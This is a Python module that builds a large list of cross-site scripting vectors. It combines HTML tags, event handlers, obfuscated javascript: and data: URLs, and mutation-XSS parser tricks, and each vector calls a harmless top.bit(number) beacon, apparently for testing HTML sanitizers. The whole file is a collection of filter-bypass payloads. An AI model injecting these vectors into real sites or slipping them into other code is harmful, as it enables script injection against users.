"""Ways to have a script run by HTML, made by combining what browsers know. Each calls ``top.bit(number)``."""

import itertools
from collections.abc import Iterator

TAGS = (  # noqa: SIM905
    "a abbr address area article audio b base bgsound blink body br button canvas center command custom-x "
    "dd details dialog div embed fieldset font footer form frame frameset h1 head header hr html i iframe "
    "image img input isindex keygen label legend li link main map marquee math menu meta meter nav object ol "
    "option p picture pre progress q script section select slot source span style summary svg table tbody td "
    "template textarea th time title track u ul video xmp xss"
).split()

EVENTS = (  # noqa: SIM905
    "onload onerror onfocus onblur onclick onmouseover onmouseenter onpointerenter ontoggle onbeforetoggle "
    "onanimationstart onanimationend ontransitionrun ontransitionend onscroll onscrollend onresize "
    "onbeforeunload onunload onhashchange onpageshow onpagehide onmessage onpopstate onstorage onbegin onend "
    "onrepeat onstart onfinish onbounce onloadstart onloadeddata onloadedmetadata oncanplay onplay onplaying "
    "ontimeupdate onended onsuspend onstalled onabort onemptied onwaiting ondurationchange onvolumechange "
    "onratechange onseeked oncuechange oninput onchange oninvalid onselect onselectionchange "
    "oncopy oncut onpaste ondrag ondrop onwheel onkeydown onsecuritypolicyviolation onslotchange "
    "oncontentvisibilityautostatechange onreadystatechange onpropertychange"
).split()

#: What makes an event happen by itself.
HELP = "src=x: href=x: autofocus tabindex=1 open controls style=animation:a;display:block data=x:"

BETWEEN = (" ", "/", "\n", "\t", "\f", "/x/", " x=1 ", "\r\n")
QUOTES = ('"', "'", "")

PROTOCOLS = (
    "javascript:{p}",
    "JaVaScRiPt:{p}",
    " javascript:{p}",
    "java\tscript:{p}",
    "java\nscript:{p}",
    "java&#x0A;script:{p}",
    "java&Tab;script:{p}",
    "&#106;avascript:{p}",
    "&#x6A&#x61vascript&colon;{p}",
    "javascript&#58;{p}",
    "&#1;javascript:{p}",
    "\x01javascript:{p}",
    "javascript://%0a{p}",
    "javascript:/*-->*/{p}",
    "data:text/html,<script>{p}</script>",
    "data:text/html;charset=utf-7,+ADw-script+AD4-{p}+ADw-/script+AD4-",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{p}'/>",
    "vbscript:{p}",
    "livescript:{p}",
    "view-source:javascript:{p}",
    "feed:javascript:{p}",
    "blob:javascript:{p}",
    "about:blank#{p}",
)

SINKS = (
    '<a href="{u}" autofocus>x</a>',
    '<a href="https://ok.test/" xlink:href="{u}">x</a>',
    '<area href="{u}">',
    '<base href="{u}"><a href="x">x</a>',
    '<body background="{u}">',
    '<button formaction="{u}">x</button>',
    '<embed src="{u}">',
    '<form action="{u}"><input type=submit autofocus></form>',
    '<frameset><frame src="{u}"></frameset>',
    '<iframe src="{u}"></iframe>',
    '<img src="{u}">',
    '<img srcset="{u} 1x">',
    '<input type=image src="{u}">',
    '<link rel=stylesheet href="{u}">',
    '<link rel=import href="{u}">',
    '<math href="{u}"><mi>x</mi></math>',
    '<meta http-equiv=refresh content="0;url={u}">',
    '<object data="{u}"></object>',
    '<object><param name=src value="{u}"></object>',
    '<p style="background:url({u})">x</p>',
    '<script src="{u}"></script>',
    '<svg><a xlink:href="{u}"><text>x</text></a></svg>',
    '<svg><animate attributeName=href values="{u}"/><a id=x><text>x</text></a></svg>',
    '<svg><set attributeName=onload to="{p}"/></svg>',
    '<svg><use href="{u}#x"/></svg>',
    '<table background="{u}"><tr><td background="{u}">x</table>',
    '<video poster="{u}" src="{u}"></video>',
)

#: What runs by itself, for the shapes below.
SHARP = (
    "<img src=x: onerror={p}>",
    "<svg onload={p}>",
    "<script>{p}</script>",
    "<iframe srcdoc='<script>parent.{p}</script>'>",
    "<details open ontoggle={p}>",
)

#: Shapes that change when they are parsed, written and parsed again; and that hide from simple readers.
SHAPES = (
    "{s}",
    "<b>{s}",
    "<p title='{s}'>x</p>",
    "<!--><b>--!>{s}",
    "<!-- --!>{s} -->",
    "<!--{s}-->",
    "<![CDATA[{s}]]>",
    "<?php {s} ?>",
    "<noscript><p title='</noscript>{s}'>",
    "<style><p title='</style>{s}'></style>",
    "<title><p title='</title>{s}'></title>",
    "<textarea><p title='</textarea>{s}'>",
    "<xmp><p title='</xmp>{s}'></xmp>",
    "<iframe><p title='</iframe>{s}'></iframe>",
    "<noembed><p title='</noembed>{s}'></noembed>",
    "<noframes><p title='</noframes>{s}'></noframes>",
    "<template>{s}</template>",
    "<template shadowrootmode=open>{s}</template>",
    "<select><option>{s}</select>",
    "<select><template>{s}</template></select>",
    "<svg><style>{s}</style></svg>",
    "<svg><title>{s}</title></svg>",
    "<svg><desc>{s}</desc></svg>",
    "<svg><foreignObject>{s}</foreignObject></svg>",
    "<svg></p><style><a id='</style>{s}'>",
    "<math><mtext><table><mglyph><style>{s}",
    "<math><mtext><table><mglyph><style><!--</style><i title='--&gt;{s}'>",
    "<math><mi><style>{s}</style></mi></math>",
    "<math><annotation-xml encoding='text/html'>{s}</annotation-xml></math>",
    "<math><annotation-xml><style>{s}</style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math>{s}",
    "<form id=a></form><form id=b></form><math><mtext></form><form><mglyph><svg><style>{s}",
    "<table><caption><svg><desc></caption>{s}</table>",
    "<a><table><td><a>{s}",
    "<font><p><font>{s}</p></font>",
    "<p><svg></p>{s}",
    "<details><summary>{s}</summary></details>",
    "<div" + " x" * 300 + ">{s}",
    "<div>" * 250 + "{s}",
    "<scr<script>ipt>{s}</scr</script>ipt>",
    "<<b>{s}",
    "<\x00b>{s}",
    "<b\x00>{s}",
    "\ufeff{s}",
    "<plaintext>{s}",
    "<a href='https://ok.test/'>{s}</a>",
    "<img alt='{s}'>",
    '<img alt="&lt;/p&gt;{s}">',
    "<p style='color:red\"></p>{s}'>x</p>",
    "<a title='\">{s}' href=https://ok.test/>x</a>",
    "<blockquote class=gmail_quote type=cite id='{s}'>{s}</blockquote>",
    "<p lang='x\">{s}'>x</p>",
    "<object><param value='</object>{s}'></object>",
    "<ruby><rt>{s}</ruby>",
    "%3Cb%3E{s}",
    "&lt;b&gt;{s}",
)


def payload(number: int) -> str:
    return f"top.bit({number})"


def made() -> Iterator[str]:
    """``{p}`` stands where the payload goes."""
    turn = itertools.count()
    for tag, event in itertools.product(TAGS, EVENTS):
        number = next(turn)
        between, quote = BETWEEN[number % len(BETWEEN)], QUOTES[number % len(QUOTES)]
        name = event.upper() if number % 5 == 0 else event
        helped = f" {HELP}" if number % 2 else ""
        yield f"<{tag}{between}{name}={quote}{{p}}{quote}{helped}>x</{tag}>"
    for sink, protocol in itertools.product(SINKS, PROTOCOLS):
        yield sink.replace("{u}", protocol)
    for shape, sharp in itertools.product(SHAPES, SHARP):
        yield shape.replace("{s}", sharp)


def vectors() -> list[str]:
    """All of them, the number of each in its payload."""
    return [one.replace("{p}", payload(number)) for number, one in enumerate(made())]
